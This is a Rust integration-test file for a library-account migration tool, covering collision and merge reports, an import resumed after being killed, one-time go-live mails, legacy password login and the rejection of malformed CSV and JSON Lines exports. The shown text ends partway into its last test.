//! Migrating the old portal accounts: the plan's rules (collisions, merges,
//! bad rows) on the sample export, an import that is finished by running it
//! again after `kill -9`, the two go-live mails sent once, and a migrated
//! member logging in with the old password or the new username.

use std::{collections::BTreeMap, io::Write, path::PathBuf, process::Stdio, time::Duration};

use si_domain::{AccountStatus, Username};
use si_store::{Repositories, Store, legacy_import::Stage};
use single_identity::{
    migration,
    oidc::clients::{ClientKind, IdTokenAlgorithm},
};

use crate::{
    desk::{ALL_DESK_SCOPES, adult, call, desk_library, desk_token},
    interop::{browser, log_in_through, query_value, register},
    selfservice::{app_with_mail, text_of},
    smtp::SmtpServer,
    support::{TestApp, spawn_app},
};

fn sample() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../docs/migration-sample.csv")
}

async fn libraries(app: &TestApp) {
    desk_library(app, "DRE01", "Biblionet Drenthe").await;
    desk_library(app, "GRO01", "Biblionet Groningen").await;
}

async fn import(store: &Store, files: &[PathBuf]) -> migration::Imported {
    let (plan, catalogue) = migration::plan(store, files).await.unwrap();
    let planned = plan.candidates.len() as u64;
    let heard = std::sync::atomic::AtomicU64::new(0);
    let imported = migration::import(
        store,
        files.to_vec(),
        std::sync::Arc::new(plan),
        std::sync::Arc::new(catalogue),
        |rows| {
            heard.fetch_add(rows, std::sync::atomic::Ordering::Relaxed);
        },
    )
    .await
    .unwrap();
    assert_eq!(heard.into_inner(), planned, "the progress bar reaches its end");
    imported
}

/// The library the exports of these tests mostly belong to.
async fn drenthe(store: &Store) -> si_store::catalogue::Library {
    store
        .catalogue()
        .library(&si_domain::LibraryCode::parse("DRE01").unwrap())
        .await
        .unwrap()
}

/// The account a Drenthe card is in, as stored.
async fn account_of_drenthe_card(
    store: &Store,
    card: &si_domain::CardNumber,
) -> Option<si_domain::AccountId> {
    let membership = store
        .memberships()
        .by_card(&drenthe(store).await, card)
        .await
        .unwrap();
    membership.expect("the card is registered").account
}

/// Every username by card number, as stored.
async fn usernames(store: &Store) -> BTreeMap<String, String> {
    let mut names = BTreeMap::new();
    for library in store.catalogue().libraries().await.unwrap() {
        for membership in store.memberships().of_library(&library).await.unwrap() {
            let account = store
                .accounts()
                .by_id(&membership.account.unwrap())
                .await
                .unwrap()
                .unwrap();
            names.insert(membership.card_number.to_string(), account.username.to_string());
        }
    }
    names
}

fn read_csv(path: PathBuf) -> Vec<Vec<String>> {
    csv::Reader::from_path(path)
        .unwrap()
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test]
async fn the_plan_reports_collisions_merges_and_bad_rows_and_changes_nothing() {
    let app = spawn_app().await;
    libraries(&app).await;
    let reports = tempfile::tempdir().unwrap();

    let (plan, catalogue) = migration::plan(&app.store, &[sample()]).await.unwrap();
    let summary = migration::report(&plan, &catalogue, &[sample()], reports.path()).unwrap();

    assert_eq!(
        (
            summary.rows,
            summary.rejected,
            summary.accounts,
            summary.merged_accounts
        ),
        (10, 2, 7, 1)
    );
    // The files name members: for the operator's eyes only, and complete.
    let mut files: Vec<(String, u32)> = std::fs::read_dir(reports.path())
        .unwrap()
        .map(|entry| {
            let entry = entry.unwrap();
            use std::os::unix::fs::PermissionsExt;
            let mode = entry.metadata().unwrap().permissions().mode() & 0o777;
            (entry.file_name().to_string_lossy().into_owned(), mode)
        })
        .collect();
    files.sort();
    assert_eq!(
        files,
        [
            "changed_since_import.csv",
            "merged.csv",
            "no_email.csv",
            "no_password.csv",
            "possible_duplicates.csv",
            "rejected.csv",
            "renamed.csv"
        ]
        .map(|name| (name.to_owned(), 0o600))
    );
    let renamed = read_csv(reports.path().join("renamed.csv"));
    assert_eq!(
        renamed,
        vec![
            // The DRE01 "jansen" logged in more recently and keeps the name; "Jansen" differs in case and is kept too.
            vec!["GRO01", "30000000000001", "jansen", "30000000000001", "taken"],
            vec![
                "DRE01",
                "20000000000004",
                "piet jansen",
                "20000000000004",
                "not_allowed"
            ],
            vec!["DRE01", "20000000000005", "", "20000000000005", "missing"],
        ]
    );
    assert_eq!(
        read_csv(reports.path().join("merged.csv")),
        vec![
            vec!["sanne_2015", "DRE01", "20000000000003", "sanne_2015"],
            vec!["sanne_2015", "GRO01", "30000000000002", "sanne.dv"],
        ],
        "same address (any case), name (any spacing) and birth date: one person, \
         the old username it does not keep named"
    );
    let rejected = read_csv(reports.path().join("rejected.csv"));
    assert_eq!(rejected.len(), 2);
    assert!(rejected[0][0].ends_with("migration-sample.csv"));
    assert_eq!(rejected[0][1], "9");
    assert!(rejected[0][2].contains("card number"), "{rejected:?}");
    assert_eq!(rejected[1][1], "10");
    assert!(rejected[1][2].contains("XXX99"), "{rejected:?}");
    assert_eq!(
        read_csv(reports.path().join("no_email.csv")),
        vec![vec!["DRE01", "20000000000004", "20000000000004", "missing"]]
    );
    let no_password = read_csv(reports.path().join("no_password.csv"));
    assert!(no_password.contains(&vec![
        "DRE01".to_owned(),
        "20000000000006".into(),
        "geen_hash".into(),
        "not valid".into()
    ]));
    assert!(usernames(&app.store).await.is_empty(), "a plan writes nothing");
    assert_eq!(summary.possible_duplicates, 0);
    assert!(read_csv(reports.path().join("possible_duplicates.csv")).is_empty());
}

/// A member who moved and gave the new library another address is two
/// accounts: no address joins them. The report lists the second beside the
/// first, for the desk to look at; twins of one address are not listed.
#[tokio::test]
async fn accounts_of_one_name_and_birth_date_are_reported_as_maybe_one_person() {
    let app = spawn_app().await;
    libraries(&app).await;
    let export = export_of(
        "DRE01,20000000000213,5280,drift,,kees@oud.nl,Kees Drift,1970-01-01,VOLWASSEN,2027-05-31,2024-01-01\n\
         GRO01,30000000000213,,kdrift,,kees@nieuw.nl,kees  DRIFT,1970-01-01,VOLWASSEN,2027-05-31,2024-02-01\n\
         DRE01,20000000000214,5280,tim_smit,,ouders@example.nl,Tim Smit,2016-04-04,JEUGD,2027-05-31,\n\
         DRE01,20000000000215,5280,tom_smit,,ouders@example.nl,Tom Smit,2016-04-04,JEUGD,2027-05-31,\n\
         DRE01,20000000000216,5280,kees2,,,Kees Drift,1970-01-01,VOLWASSEN,2027-05-31,\n",
    );
    let files = [export.path().to_owned()];
    let reports = tempfile::tempdir().unwrap();
    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    let summary = migration::report(&plan, &catalogue, &files, reports.path()).unwrap();
    assert_eq!((summary.accounts, summary.possible_duplicates), (5, 2));
    assert!(
        summary.to_string().contains("same name and birth date:   2"),
        "{summary}"
    );
    assert_eq!(
        read_csv(reports.path().join("possible_duplicates.csv")),
        vec![
            vec![
                "kdrift",
                "GRO01",
                "30000000000213",
                "drift",
                "DRE01",
                "20000000000213"
            ],
            vec![
                "kees2",
                "DRE01",
                "20000000000216",
                "drift",
                "DRE01",
                "20000000000213"
            ],
        ]
    );
}

#[tokio::test]
async fn a_name_in_use_outside_the_migration_goes_to_no_migrated_account() {
    let app = spawn_app().await;
    libraries(&app).await;
    crate::interop::member(&app.store, "jansen").await;

    import(&app.store, &[sample()]).await;

    let names = usernames(&app.store).await;
    assert_eq!(names["20000000000001"], "20000000000001");
    assert_eq!(names["30000000000001"], "30000000000001");
    assert_eq!(
        names["20000000000002"], "Jansen",
        "case-only differences are other names"
    );
}

#[tokio::test]
async fn announce_and_go_live_send_each_mail_once_and_activate_the_accounts() {
    let app = spawn_app().await;
    let sealing = app.sealing().await;
    libraries(&app).await;
    let first = import(&app.store, &[sample()]).await;
    assert_eq!((first.accounts, first.memberships), (7, 8));
    let again = import(&app.store, &[sample()]).await;
    assert_eq!(
        (again.accounts, again.memberships),
        (0, 0),
        "a second run adds nothing"
    );

    // Two weeks from now, as the docs advise; a day already gone is refused.
    let today = time::OffsetDateTime::now_utc().date();
    let yesterday = today.previous_day().unwrap();
    let refused = migration::send(&app.store, &sealing, Stage::Announcement, Some(yesterday), |_| ()).await;
    assert!(
        matches!(refused, Err(migration::MigrationError::GoLiveInThePast(date)) if date == yesterday),
        "{refused:?}"
    );
    let go_live = today + time::Duration::days(14);
    // Six accounts have an address; one member gets no mail.
    assert_eq!(
        migration::send(&app.store, &sealing, Stage::Announcement, Some(go_live), |_| ())
            .await
            .unwrap(),
        6
    );
    assert_eq!(
        migration::send(&app.store, &sealing, Stage::Announcement, Some(go_live), |_| ())
            .await
            .unwrap(),
        0
    );
    let jansen = app
        .store
        .accounts()
        .by_username(&Username::parse("jansen").unwrap())
        .await
        .unwrap()
        .unwrap();
    assert_eq!(jansen.status, AccountStatus::Pending, "not before go-live");
    // Two operators starting go-live at once: each mail still goes once.
    let (first, second) = tokio::join!(
        migration::send(&app.store, &sealing, Stage::GoLive, None, |_| ()),
        migration::send(&app.store, &sealing, Stage::GoLive, None, |_| ())
    );
    assert_eq!(first.unwrap() + second.unwrap(), 6);
    assert_eq!(
        migration::send(&app.store, &sealing, Stage::GoLive, None, |_| ())
            .await
            .unwrap(),
        0
    );
    let jansen = app.store.accounts().by_id(&jansen.id).await.unwrap().unwrap();
    assert_eq!(jansen.status, AccountStatus::Active);

    let queued = app.store.outbox().entries().await.unwrap();
    let count = |template: &str| queued.iter().filter(|m| m.template == template).count();
    assert_eq!(count("migration_announcement"), 6);
    assert_eq!(count("go_live_username"), 6);
}

/// Anna had a card and a login at each of two libraries: one account, with
/// the username and password of the login she used last. Her go-live mail
/// names the other username, which stops working, and whose password counts.
#[tokio::test]
async fn the_go_live_mail_of_a_merged_account_names_the_old_username_that_stops_working() {
    let smtp = SmtpServer::start();
    let app = app_with_mail(&smtp).await;
    let sealing = app.sealing().await;
    libraries(&app).await;
    let export = export_of(concat!(
        "DRE01,20000000000011,5280,anna_d,{SSHA}jdALDtX0+MVMkRsX0ilHz0O6Uos95D4s,anna@example.nl,",
        "Anna de Boer,1988-04-04,VOLWASSEN,2027-05-31,2024-06-01T10:00:00Z\n",
        "GRO01,30000000000011,,anna.g,$1$dXc3I7Rw$ctlgjDdWJLMT.qwHsWhXR1,ANNA@example.nl,",
        "Anna de Boer,1988-04-04,VOLWASSEN,2027-02-28,2023-12-24\n",
    ));
    let imported = import(&app.store, &[export.path().to_owned()]).await;
    assert_eq!((imported.accounts, imported.memberships), (1, 2));

    let sent = migration::send(&app.store, &sealing, Stage::GoLive, None, |_| ())
        .await
        .unwrap();
    assert_eq!(sent, 1);
    let mails = smtp.wait_for_async(1).await;
    let text = text_of(&mails[0]);
    for phrase in [
        "Je gebruikersnaam blijft hetzelfde als voor Mijn Menu van Biblionet Drenthe:",
        "- anna_d",
        "Voor Mijn Menu van Biblionet Groningen had je de gebruikersnaam anna.g. Die werkt vanaf nu niet meer",
        "Je wachtwoord is het wachtwoord dat je had voor Mijn Menu van Biblionet Drenthe.",
    ] {
        assert!(text.contains(phrase), "{phrase:?} missing from:\n{text}");
    }
    assert_eq!(
        usernames(&app.store).await.into_values().collect::<Vec<_>>(),
        ["anna_d", "anna_d"],
        "both cards in the one account"
    );
}

#[tokio::test]
async fn an_announcement_after_go_live_skips_the_members_live_already() {
    let app = spawn_app().await;
    let sealing = app.sealing().await;
    libraries(&app).await;
    import(&app.store, &[sample()]).await;
    assert_eq!(
        migration::send(&app.store, &sealing, Stage::GoLive, None, |_| ())
            .await
            .unwrap(),
        6
    );
    // An announcement for a later batch: "soon one account" is not news
    // to members who had their username mail.
    let go_live = time::OffsetDateTime::now_utc().date() + time::Duration::days(14);
    assert_eq!(
        migration::send(&app.store, &sealing, Stage::Announcement, Some(go_live), |_| ())
            .await
            .unwrap(),
        0
    );
    let queued = app.store.outbox().entries().await.unwrap();
    assert!(
        queued.iter().all(|m| m.template == "go_live_username"),
        "{queued:?}"
    );
    assert_eq!(queued.len(), 6);
}

#[tokio::test]
async fn migrated_members_log_in_with_the_old_password_or_their_new_username() {
    let app = spawn_app().await;
    let sealing = app.sealing().await;
    libraries(&app).await;
    import(&app.store, &[sample()]).await;
    migration::send(&app.store, &sealing, Stage::GoLive, None, |_| ())
        .await
        .unwrap();
    let (client_id, _) = register(&app, ClientKind::Confidential, IdTokenAlgorithm::Rs256).await;
    let authorize = format!(
        "{}?client_id={client_id}&redirect_uri={}&response_type=code&scope=openid&state=s",
        app.url("/authorize"),
        crate::interop::REDIRECT_URI
    );

    // bcrypt from the old portal, old username kept.
    let back = log_in_through(&app, &browser(), &authorize, "jansen", "Kk4DQuMMfZL9o").await;
    assert!(query_value(&back, "code").is_some(), "{back}");
    let jansen = app
        .store
        .accounts()
        .by_username(&Username::parse("jansen").unwrap())
        .await
        .unwrap()
        .unwrap();
    assert!(
        jansen.password_hash.unwrap().starts_with("$argon2id$"),
        "upgraded at the first login"
    );

    // md5-crypt, and the old name went to a more recent member: the card number it is.
    let back = log_in_through(&app, &browser(), &authorize, "30000000000001", "U*U*U*U*").await;
    assert!(query_value(&back, "code").is_some(), "{back}");
}

/// A generated export of `members` rows for DRE01.
/// An export with the documented header and these rows, one per line.
fn export_of(rows: &str) -> tempfile::NamedTempFile {
    let mut file = tempfile::Builder::new().suffix(".csv").tempfile().unwrap();
    writeln!(
        file,
        "library_code,card_number,branch,username,password_hash,email,name,birth_date,subscription_type,valid_until,last_login"
    )
    .unwrap();
    write!(file, "{rows}").unwrap();
    file.flush().unwrap();
    file
}

fn export(members: usize) -> tempfile::NamedTempFile {
    // Every tenth name is wanted twice, so collisions are resolved on every run.
    let rows: String = (0..members)
        .map(|n| {
            format!(
                "DRE01,{},5280,lid{},{{SSHA}}jdALDtX0+MVMkRsX0ilHz0O6Uos95D4s,lid{n}@example.nl,Lid {n},1990-01-01,VOLWASSEN,2027-05-31,2024-{:02}-01\n",
                20_000_000_000_000u64 + n as u64,
                n - n % 2 * usize::from(n % 10 == 1),
                n % 12 + 1
            )
        })
        .collect();
    export_of(&rows)
}

#[tokio::test(flavor = "multi_thread")]
async fn an_import_killed_half_way_ends_as_an_uninterrupted_one_when_run_again() {
    let members = 40_000;
    let file = export(members);
    let files = vec![file.path().to_owned()];

    let uninterrupted = spawn_app().await;
    libraries(&uninterrupted).await;
    import(&uninterrupted.store, &files).await;

    let killed = spawn_app().await;
    libraries(&killed).await;
    let database_url = killed.database_url();
    let mut child = crate::support::binary(killed.data_dir.path())
        .env("SI_DATABASE_URL", &database_url)
        .args(["migrate", "import", "--report"])
        .arg(killed.data_dir.path().join("report"))
        .arg(file.path())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let drenthe = drenthe(&killed.store).await;
    let deadline = std::time::Instant::now() + Duration::from_secs(120);
    loop {
        let written = killed
            .store
            .memberships()
            .of_library(&drenthe)
            .await
            .unwrap()
            .len();
        if written > 0 {
            assert!(written < members, "killed before the end: {written}");
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the import never wrote a batch"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    // SIGKILL: no chance to clean up.
    child.kill().unwrap();
    child.wait().unwrap();

    let output = crate::support::run(
        crate::support::binary(killed.data_dir.path())
            .env("SI_DATABASE_URL", &database_url)
            .args(["migrate", "import", "--report"])
            .arg(killed.data_dir.path().join("report"))
            .arg(file.path()),
    );
    assert!(output.status.success(), "{}", crate::support::stderr(&output));
    // The operator is told what the first run had done: what it wrote is
    // skipped, the rest imported (one account per membership here).
    let said = crate::support::stdout(&output);
    let added: usize = said
        .split("Imported: ")
        .nth(1)
        .and_then(|rest| rest.split(' ').next())
        .and_then(|count| count.parse().ok())
        .unwrap_or_else(|| panic!("{said}"));
    assert!(added > 0 && added < members, "{said}");
    let skipped = members - added;
    assert!(
        said.contains(&format!(
            "Imported: {added} new accounts and {added} new memberships."
        )) && said.contains(&format!(
            "Skipped: {skipped} of the {members} memberships, there already (from an earlier run, or registered at the desk meanwhile)."
        )),
        "{said}"
    );

    let expected = usernames(&uninterrupted.store).await;
    assert_eq!(expected.len(), members);
    assert_eq!(
        usernames(&killed.store).await,
        expected,
        "same accounts, same names, nothing twice"
    );
}

#[tokio::test]
async fn json_lines_exports_plan_like_csv() {
    let app = spawn_app().await;
    libraries(&app).await;
    let mut reader = csv::Reader::from_path(sample()).unwrap();
    let headers = reader.headers().unwrap().clone();
    let mut jsonl = tempfile::Builder::new().suffix(".jsonl").tempfile().unwrap();
    for record in reader.records() {
        let record = record.unwrap();
        let row: serde_json::Map<String, serde_json::Value> = headers
            .iter()
            .zip(record.iter())
            .map(|(key, value)| (key.to_owned(), serde_json::Value::String(value.to_owned())))
            .collect();
        writeln!(jsonl, "{}", serde_json::Value::Object(row)).unwrap();
    }
    writeln!(jsonl, "{{not json").unwrap();
    let reports = tempfile::tempdir().unwrap();

    let (plan, catalogue) = migration::plan(&app.store, &[jsonl.path().to_owned()])
        .await
        .unwrap();
    let summary = migration::report(&plan, &catalogue, &[jsonl.path().to_owned()], reports.path()).unwrap();

    assert_eq!((summary.rows, summary.rejected, summary.accounts), (11, 3, 7));
    let rejected = read_csv(reports.path().join("rejected.csv"));
    assert_eq!(rejected[2][1], "11", "lines count from 1: {rejected:?}");
    assert!(rejected[2][2].contains("not a JSON row"), "{rejected:?}");
}

#[tokio::test]
async fn rows_a_broken_export_mangled_are_rejected_by_line_and_the_rest_imported() {
    let app = spawn_app().await;
    libraries(&app).await;
    let row = |card: u64, username: &str| {
        format!(
            "DRE01,{card},5280,{username},,lid{card}@example.nl,Lid {card},1980-02-01,VOLWASSEN,2027-05-31,2024-01-01\n"
        )
    };
    // Line 4 opens a quote that line 7 closes: lines 5 and 6 are swallowed
    // into its row, and must be reported with it, not lost in silence.
    let rows = [
        row(20_000_000_000_001, "jansen\0\0"),
        row(20_000_000_000_002, &"a".repeat(256)),
        row(20_000_000_000_003, "\"drie"),
        row(20_000_000_000_005, "vijf"),
        row(20_000_000_000_006, "zes"),
        row(20_000_000_000_007, "ze\"ven"),
        row(20_000_000_000_008, "acht"),
        row(20_000_000_000_009, "negen").replace("1980-02-01", "2999-02-01"),
        row(20_000_000_000_010, "tien").replace("2024-01-01", "2999-01-01"),
        row(20_000_000_000_011, "elf").replace("1980-02-01", "1980-W05-5"),
        row(20_000_000_000_012, "twaalf").replace("1980-02-01", "1899-12-31"),
        // A value past the header's last column, which naming by the
        // header would drop.
        row(20_000_000_000_013, "dertien").replace("2024-01-01\n", "2024-01-01,2025-06-01T00:00:00Z\n"),
        // One short: the last login left out with its comma.
        row(20_000_000_000_015, "vijftien").replace(",2024-01-01\n", "\n"),
        // A lone carriage return in a name is a character of the name, not
        // a line end that would make two short rows of one.
        row(20_000_000_000_016, "zestien").replace("Lid 20000000000016", "Lid\r16"),
    ]
    .concat();
    let mut file = export_of(&rows);
    // An export in Latin-1: the name's ë is one byte, not UTF-8.
    let latin1: Vec<u8> = row(20_000_000_000_014, "veertien")
        .replace("Lid 20000000000014", "Zo# de Vries")
        .bytes()
        .map(|byte| if byte == b'#' { 0xEB } else { byte })
        .collect();
    file.write_all(&latin1).unwrap();
    file.flush().unwrap();
    let files = vec![file.path().to_owned()];
    let reports = tempfile::tempdir().unwrap();

    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    let summary = migration::report(&plan, &catalogue, &files, reports.path()).unwrap();

    assert_eq!(
        rejected_lines(reports.path()),
        [
            [
                "2",
                "username holds a control character (a NUL, tab or line break)"
            ],
            ["3", "the username is longer than 255 characters"],
            [
                "4",
                "lines 4–7 read as one row: a quote that is not closed, or a line break inside a field"
            ],
            ["9", "birth date 2999-02-01 is in the future"],
            ["10", "last login \"2999-01-01\" is in the future"],
            ["11", "birth date \"1980-W05-5\" is not YYYY-MM-DD"],
            ["12", "birth date 1899-12-31 is before 1900-01-01"],
            [
                "13",
                "12 fields where the header names 11: a comma outside quotes, or a value too many"
            ],
            [
                "14",
                "10 fields where the header names 11: a value or its comma is missing"
            ],
            ["15", "name holds a control character (a NUL, tab or line break)"],
            ["16", "name is not UTF-8 text"],
        ]
    );
    assert_eq!(
        (summary.rows, summary.rejected, summary.accounts),
        (12, 11, 1),
        "16 lines, of which 4 to 7 are one row; the carriage return cuts none in two"
    );
    // PostgreSQL refuses a NUL or an overlong name for a whole batch: the
    // import must never be handed one.
    let imported = import(&app.store, &files).await;
    assert_eq!(
        imported,
        migration::Imported {
            accounts: 1,
            memberships: 1,
            left_out: 0,
        }
    );
}

/// Exports as spreadsheets and scripts write them: Windows and old Mac line
/// ends, `\r\r\n` (`\r\n` written through Windows' text mode), blank lines
/// before the header, between rows and at the end, semicolons (a Dutch
/// spreadsheet's "CSV"). Every variant plans as the sample does, its lines
/// named as an editor shows them.
#[tokio::test]
async fn exports_in_every_line_end_and_separator_plan_as_the_sample() {
    let app = spawn_app().await;
    libraries(&app).await;
    let text = std::fs::read_to_string(sample()).unwrap();
    let plan_of = |text: String| {
        let store = app.store.clone();
        async move {
            let mut file = tempfile::Builder::new().suffix(".csv").tempfile().unwrap();
            file.write_all(text.as_bytes()).unwrap();
            let files = vec![file.path().to_owned()];
            let reports = tempfile::tempdir().unwrap();
            let (plan, catalogue) = migration::plan(&store, &files).await.unwrap();
            let summary = migration::report(&plan, &catalogue, &files, reports.path()).unwrap();
            ((summary.rows, summary.accounts), rejected_lines(reports.path()))
        }
    };
    let (counts, rejected) = plan_of(text.clone()).await;
    assert!(!rejected.is_empty());
    let one_line_down: Vec<[String; 2]> = rejected
        .iter()
        .map(|[line, reason]| [(line.parse::<u64>().unwrap() + 1).to_string(), reason.clone()])
        .collect();
    let (header, rows) = text.split_once('\n').unwrap();
    // A blank line before the header, two at the end, one of spaces: every
    // row one line further down, none lost.
    let blanks = format!("\n{header}\n{rows}\n  \n\n");
    let variants = [
        ("crlf", text.replace('\n', "\r\n"), &rejected),
        ("cr", text.replace('\n', "\r"), &rejected),
        ("crcrlf", text.replace('\n', "\r\r\n"), &rejected),
        // A name with a comma in it, quoted as spreadsheets quote it.
        (
            "semicolons",
            text.replace(',', ";")
                .replacen("Jan de Vries", "\"de Vries, Jan\"", 1),
            &rejected,
        ),
        ("blank lines", blanks.clone(), &one_line_down),
        // Excel: a line naming the separator, then empty rows of separators.
        (
            "excel",
            format!("sep=;\n{}\n;;;;;;;;;;\n", text.replace(',', ";").trim_end()),
            &one_line_down,
        ),
        // Spaces before a semicolon header.
        (
            "spaces first",
            format!("  \n{}", text.replace(',', ";")),
            &one_line_down,
        ),
        ("blank lines, crlf", blanks.replace('\n', "\r\n"), &one_line_down),
        ("blank lines, cr", blanks.replace('\n', "\r"), &one_line_down),
    ];
    for (name, variant, expected) in variants {
        let (variant_counts, variant_rejected) = plan_of(variant).await;
        assert_eq!(variant_counts, counts, "{name}");
        assert_eq!(&variant_rejected, expected, "{name}");
    }
    // A quote left open in a row that is not UTF-8 either: the lines it
    // took are named all the same.
    let mut latin1 = tempfile::Builder::new().suffix(".csv").tempfile().unwrap();
    let open_in_latin1 =
        text.replacen(",jansen,", ",\"jansen,", 1)
            .replacen("Jan de Vries", "Jan de Vri#s", 1);
    let bytes: Vec<u8> = open_in_latin1
        .bytes()
        .map(|b| if b == b'#' { 0xEB } else { b })
        .collect();
    latin1.write_all(&bytes).unwrap();
    let files = vec![latin1.path().to_owned()];
    let reports = tempfile::tempdir().unwrap();
    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    migration::report(&plan, &catalogue, &files, reports.path()).unwrap();
    assert_eq!(
        rejected_lines(reports.path()),
        [[
            "2".to_owned(),
            "lines 2–11 read as one row: a quote that is not closed, or a line break inside a field"
                .to_owned()
        ]]
    );
    // A quote left open runs to the end over blank lines, each line named.
    let open_quote = blanks.replacen(",jansen,", ",\"jansen,", 1);
    let (_, open_rejected) = plan_of(open_quote).await;
    assert_eq!(
        open_rejected,
        [[
            "3".to_owned(),
            "lines 3–15 read as one row: a quote that is not closed, or a line break inside a field"
                .to_owned()
        ]]
    );
}

/// A header that is no header of ours stops the plan with a short message
/// that holds nothing of the rows: a quote left open at its start takes
/// the whole file into one name.
#[tokio::test]
async fn a_broken_header_is_named_without_the_rows_behind_it() {
    let app = spawn_app().await;
    let text = std::fs::read_to_string(sample()).unwrap();
    for (name, broken) in [
        ("quote", format!("\"{text}").into_bytes()),
        (
            "json",
            b"{\"library_code\": \"DRE01\", \"password_hash\": \"$2b$04$secret\"}\n".to_vec(),
        ),
        ("utf-16", vec![0xff, 0xfe, b'l', 0, b'i', 0]),
        // UTF-16 without its byte-order mark.
        ("utf-16", vec![b'l', 0, b'i', 0]),
        // Not text at all (`/dev/zero`): no UTF-16 either.
        ("zeros", vec![0; 4096]),
        ("no header", text.split_once('\n').unwrap().1.as_bytes().to_vec()),
        // A first row whose username happens to be a column's name in
        // other letters is no header in capitals: its values stay unshown.
        (
            "no header",
            text.split_once('\n')
                .unwrap()
                .1
                .replacen("jansen", "Name", 1)
                .into_bytes(),
        ),
        // The last name's quote left open: the rows run into it, and in a
        // file whose values are quoted the next quote closes it, the rest
        // of that row read as names.
        (
            "open last name",
            text.replacen("last_login", "\"last_login", 1).into_bytes(),
        ),
        (
            "open last name, quoted values",
            text.replacen("last_login", "\"last_login", 1)
                .replace("\nDRE01,", "\n\"DRE01\",")
                .into_bytes(),
        ),
        ("empty", b"\n\n".to_vec()),
    ] {
        let mut file = tempfile::Builder::new().suffix(".csv").tempfile().unwrap();
        file.write_all(&broken).unwrap();
        let error = migration::plan(&app.store, &[file.path().to_owned()])
            .await
            .err()
            .unwrap()
            .to_string();
        assert!(error.len() < 700, "{name}: {} bytes: {error}", error.len());
        for secret in ["$2b$04$", "jan@example.nl"] {
            assert!(!error.contains(secret), "{name}: {error}");
        }
        let said = match name {
            "no header" | "zeros" => "the first line is no header of an export",
            "quote" | "open last name" => "the header runs on from line 1 to 11: a quote that is not closed?",
            "open last name, quoted values" => {
                "the header runs on from line 1 to 2: a quote that is not closed?"
            }
            "json" => "this is JSON, not CSV: a JSON Lines export is read when its name ends in .jsonl",
            "utf-16" => "the file is UTF-16 text: save it as UTF-8 (CSV UTF-8)",
            _ => "the file has no header, it is empty",
        };
        assert!(error.contains(said), "{name}: {error}");
    }
}

#[tokio::test]
async fn json_lines_rows_may_hold_numbers_and_nulls_and_a_bad_line_is_only_that_line() {
    let app = spawn_app().await;
    libraries(&app).await;
    let row = |card: serde_json::Value| {
        serde_json::json!({
            "library_code": "DRE01", "card_number": card, "branch": "5280", "username": null,
            "password_hash": null, "email": null, "name": "Elf Lid", "birth_date": "1980-02-01",
            "subscription_type": "VOLWASSEN", "valid_until": "2027-05-31", "last_login": null
        })
        .to_string()
    };
    let mut jsonl = tempfile::Builder::new().suffix(".jsonl").tempfile().unwrap();
    writeln!(jsonl, "\u{feff}{}", row(serde_json::json!(20_000_000_000_011u64))).unwrap();
    jsonl.write_all(b"{\"library_code\": \"DRE01\xff\"}\n").unwrap();
    writeln!(jsonl, "{{\"name\": \"{}\"}}", "x".repeat(70_000)).unwrap();
    writeln!(jsonl, "{}", row(serde_json::json!("20000000000012"))).unwrap();
    writeln!(jsonl, "{}", row(serde_json::json!(["20000000000013"]))).unwrap();
    // Beyond 64 bits serde_json keeps only a float: `2e19` must not pass as a card.
    let beyond_64_bits = row(serde_json::json!("X")).replace("\"X\"", "20000000000000000000");
    writeln!(jsonl, "{beyond_64_bits}").unwrap();
    jsonl.flush().unwrap();
    let files = vec![jsonl.path().to_owned()];
    let reports = tempfile::tempdir().unwrap();

    let (plan, catalogue) = migration::plan(&app.store, &files).await.unwrap();
    let summary = migration::report(&plan, &catalogue, &files, reports.path()).unwrap();

    assert_eq!(
        rejected_lines(reports.path()),
        [
            ["2", "not UTF-8 text"],
            ["3", "longer than 65536 bytes"],
            ["5", "card_number is not text, a whole number or null"],
            ["6", "card_number is not text, a whole number or null"],
        ]
    );
    assert_eq!((summary.rows, summary.accounts), (6, 2));
    let imported = import(&app.store, &files).await;
    assert_eq!(
        imported,
        migration::Imported {
            accounts: 2,
            memberships: 2,
            left_out: 0,
        }
    );
}

#[tokio::test]
async fn a_header_with_a_column_misspelled_left_out_or_twice_stops_the_plan_naming_it() {
    let app = spawn_app().await;
    libraries(&app).await;
    let documented = "library_code,card_number,branch,username,password_hash,email,name,birth_date,subscription_type,valid_until,last_login";
    let row = "DRE01,20000000000001,5280,jansen,$1$saltsalt$qjXMvbEw8oaL.CzflDugX/,jan@example.nl,Jan de Vries,1980-02-01,VOLWASSEN,2027-05-31,2024-06-01\n";
    for (header, problem) in [
        (
            documented.replace("password_hash", "passwd_hash"),
            "the header has unknown columns (\"passwd_hash\"), lacks columns (password_hash)",
        ),
        (
            documented.replace(",email", ""),
            "the header lacks columns (email)",
        ),
        (
            format!("{documented},email"),
            "the header names columns twice (email)",
        ),
        (String::new(), "the file has no header, it is empty"),
        // Cut after 40 characters, a tab escaped, an empty name quoted.
        (
            format!("{documented},{}\tx,", "n".repeat(45)),
            &format!("the header has unknown columns (\"{}…\", \"\");", "n".repeat(40)),
        ),
        // A spreadsheet's empty columns at the end of each line.
        (
            format!("{documented},,"),
            "the header has unknown columns (\"\", \"\"); delete the empty columns a spreadsheet left \
             at the end of each line (columns without a name): it must name",
        ),
        (
            documented.to_uppercase(),
            "; column names are written in lower case: it must name",
        ),
        (
            format!("{documented},a\tb"),
            "the header has unknown columns (\"a\\tb\"):",
        ),
    ] {
        let mut file = tempfile::Builder::new().suffix(".csv").tempfile().unwrap();
        if !header.is_empty() {
            write!(file, "{header}\n{row}").unwrap();
        }
        let error = migration::plan(&app.store, &[file.path().to_owned()])
            .await
            .err()
            .unwrap_or_else(|| panic!("a plan despite the header {header:?}"))
            .to_string();
        assert!(error.contains(&file.path().display().to_string()), "{error}");
        assert!(error.contains(problem), "{error}");
        assert!(error.contains(documented), "the columns it wants: {error}");
    }
}

#[tokio::test]
async fn a_json_lines_row_with_an_unknown_or_doubled_key_is_rejected() {
    let app = spawn_app().await;
    libraries(&app).await;
